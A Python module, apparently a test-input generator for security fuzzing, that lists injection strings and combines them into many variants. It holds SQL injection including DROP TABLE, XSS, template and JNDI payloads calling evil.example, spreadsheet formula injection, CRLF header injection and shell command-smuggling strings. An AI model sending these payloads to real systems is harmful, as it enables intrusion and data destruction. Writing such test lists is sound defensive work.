"""Texts that attack whatever reads them: a written list, and as many more of each kind as are asked for."""

from __future__ import annotations

import random

# Each is a way out of some language's literal, or something that a program behind it would run.
FILTERS = (
    '" or 1 == 1 or label == "',
    "' or 1 == 1 or label == '",
    "'] or id not in ['q",
    '"] or id not in ["q',
    "0] or id > 0 or id in [0",
    "id > 0",
    "label_0 != 0",
    'x" || true || "',
    'like "%"',
    "%",
    "_",
    "*",
    "{label}",
    "array_contains(labels, 1)",
    "json_contains($meta, 1)",
    "exists id",
    "TEXT_MATCH(name, 'a')",
    "1) or (1 == 1",
)
SQL = (
    "' OR '1'='1",
    "' OR 1=1 -- ",
    '" OR ""="',
    "'; DROP TABLE label; --",
    "1; DELETE FROM label_state",
    "') OR ('x'='x",
    "' UNION SELECT id FROM image -- ",
    "\\' OR 1=1 -- ",
    "' || (SELECT name FROM label) || '",
    "'/**/OR/**/1=1--",
    ":name",
    "%(name)s",
    "$1",
    "?",
    "' AND sleep(5) AND '",
    "'; SELECT pg_sleep(5); --",
    "' OR name LIKE '%",
    "' OR name GLOB '*",
)
PAGES = (
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    '"><script>window.ran=1</script>',
    "'><img src=x onerror=alert(1)>",
    "<svg onload=window.ran=1>",
    "</title><script>window.ran=1</script>",
    "</script><script>window.ran=1</script>",
    "javascript:window.ran=1",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    '<a href="javascript:window.ran=1">x</a>',
    "<math><mtext><script>window.ran=1</script>",
    "<!--",
    "-->",
    "&lt;script&gt;",
    "&#60;b&#62;",
    "` onmouseover=window.ran=1 x=`",
    "'-window.ran=1-'",
    "<details open ontoggle=window.ran=1>",
    "<form action=//evil.example><input name=x autofocus onfocus=window.ran=1>",
)
TEMPLATES = (
    "{{7*7}}",
    "{{ config }}",
    "{% for x in () %}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{''.__class__.__mro__}}",
    "%s%s%s%n",
    "{0.__class__}",
    "{request.environ}",
    "${jndi:ldap://evil.example/x}",
)
CELLS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example","x")',
    "＝1+1",
    "|calc",
    "%0A=1+1",
    "'=1+1",
    "''=1",
    '"=1+1"',
    ",=1+1",
    ";=1+1",
    '";=1+1;"',
)
LINES = (
    "a\r\nX-Injected: 1",
    "a\nX-Injected: 1",
    "a\r\n\r\n<script>window.ran=1</script>",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "a\x00b",
    "\x00",
    "\x1b[2J\x1b]0;taken\x07",
    "a\u2028b",
    "a\u2029b",
    "a\x0bb\x0cc",
    "a\x7f",
    "a\x85b",
)
SIGHTS = (
    "\u202egpj.exe",
    "\u2066abc\u2069",
    "\ufeffabc",
    "a\u200bb",
    "😀",
    "👩‍👩‍👧‍👦",
    "\U0001f600" * 100,
    "e\u0301",
    "İ",
    "ﬁ",
    "K",  # the sign of kelvin, which NFC makes a letter
    "\ud800",
    "\udfff\ud800",
    "a" * 101,
    "a" * 401,
    "a" * 5000,
    "é" * 100,
    "\uffff",
    "\U0010ffff",
    "zalgo" + "\u0301" * 90,
    " ",
    "   a   ",
    "",
    "null",
    "undefined",
    "NaN",
    "-0",
    "1e309",
    "__proto__",
    "constructor",
    "true",
    "None",
)
SHELLS = (
    "; id",
    "| id",
    "`id`",
    "$(id)",
    "&& id",
    "-rf",
    "--help",
    "a\\",
    "\\",
    "\\\\",
    "'",
    '"',
    "'\"`",
    "\\x00",
    "%00",
)
WRITTEN = (*FILTERS, *SQL, *PAGES, *TEMPLATES, *CELLS, *LINES, *SIGHTS, *SHELLS)
WORDS = ("sky", "grass", "brick", "id", "label", "name", "source", "1", "x", "été", "類似", "ночь")


def texts(number: int, *, seed: int = 20) -> list[str]:
    """At least `number` texts, no two of them alike: the written ones, then those around and between words."""
    drawn = random.Random(seed)
    found = dict.fromkeys(WRITTEN)
    while len(found) < number:
        first, second = drawn.choice(WRITTEN), drawn.choice(WRITTEN)
        word = f"{drawn.choice(WORDS)}{drawn.randrange(10**6)}"
        made = drawn.choice(
            (
                f"{word}{first}",
                f"{first}{word}",
                f"{first}{word}{second}",
                f"{word}{first}{word}",
                f"{first} {second} {word}",
            )
        )
        found[made] = None
    return list(found)
